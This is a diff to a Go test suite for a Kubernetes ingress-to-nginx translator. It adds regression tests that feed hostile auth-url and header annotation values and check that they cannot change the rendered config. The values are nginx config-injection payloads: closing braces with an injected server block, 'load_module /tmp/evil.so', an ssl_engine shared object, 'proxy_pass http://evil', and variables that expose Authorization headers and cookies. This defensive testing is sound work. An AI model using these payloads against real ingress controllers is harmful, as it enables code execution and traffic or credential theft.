@@ -35,6 +35,12 @@ func injectionValues() []string {
 		"8m; }", "8m\n}", "1m 1m", "60s;", "1h 30m; return 200", "${request_time}", "error timeout; }", "error\ntimeout",
 		"on;", "off }", "1.0;", "/app/ /$uri", "a.example b.example;", "http://a/ http://b/;} #", "~^/(.*) /$1",
 		"keep-alive\r\nX-Evil: 1", "keep-alive;", "99999999999999999999", "1e9", "0x10", "-5",
+		// External auth URLs: ingress-nginx's auth-url injection CVEs (CVE-2025-24514 and kin) closed the
+		// location with '}' or ';' and a newline, hid the rest with '#', or read files through variables.
+		"http://auth.example.com/#;\n}}\nserver { listen 80; location / { return 200 pwned; } }\n#",
+		"http://auth.example.com/auth;\nload_module /tmp/evil.so;#", "https://auth.example.com/\"; } ssl_engine /tmp/x.so; #",
+		"http://auth.example.com/auth?a=$http_authorization", "http://$host/oauth2/auth", "http://auth.example.com/auth}\n",
+		"http://a.example.com/ x", "X-Auth-Request-User;\nproxy_pass http://evil", "X-User, $http_cookie", "GET;", "rd\nx",
 	}
 }
 
@@ -81,6 +87,15 @@ func checkAnnotationValue(t *testing.T, spec AnnotationSpec, value string) {
 	base, _ := translateAnnotated(t, DefaultTranslateOptions())
 	baseModel, _ := Merge([]*IngressTranslation{base}, nil)
 	model, _ := Merge([]*IngressTranslation{got}, nil)
+	if spec.Kind == KindProfile {
+		conf, _, err := Render(model, baseRenderConfig())
+		if err != nil {
+			t.Fatalf("%s=%.40q: accepted, but the model does not render: %v", key, value, err)
+		}
+		if bytes.Contains(conf, []byte(`"" invalid`)) {
+			t.Fatalf("%s=%.40q: accepted, but a value could not be quoted", key, value)
+		}
+	}
 	if spec.Kind == KindRouteData {
 		want, _, err := Render(baseModel, baseRenderConfig())
 		if err != nil {
@@ -238,12 +253,13 @@ func TestAnnotationInjectionNginx(t *testing.T) {
 			hostile("allow", AnnotationAllowlistSourceRange, "127.0.0.1;allow all"),
 			hostile("deny", AnnotationDenylistSourceRange, "10.0.0.0/8\n}\n"+strings.Repeat("{", 1000)),
 			hostile("nul", AnnotationWhitelistSourceRange, "127.0.0.1\x00"),
+			hostile("authurl", AnnotationAuthURL, "http://127.0.0.1/#;\n}}\nserver { listen 80; location / { return 200 pwned; } }\n#"),
 			ingress("default", "block", rule("block.example.com", prefix("/", "web", 80)), annotate(AnnotationDenylistSourceRange, "127.0.0.0/8\n")),
 			ingress("default", "neighbour", rule("neighbour.example.com", prefix("/", "web", 80)), annotate(AnnotationSSLRedirect, "false\n")),
 		},
 		requests: map[string]string{
 			"http://redirect.example.com/": "404", "http://allow.example.com/": "404", "http://deny.example.com/": "404",
-			"http://nul.example.com/": "404", "http://block.example.com/": "403",
+			"http://nul.example.com/": "404", "http://authurl.example.com/": "404", "http://block.example.com/": "403",
 			"http://neighbour.example.com/": "web",
 		},
 	}}, "127.0.0.1")
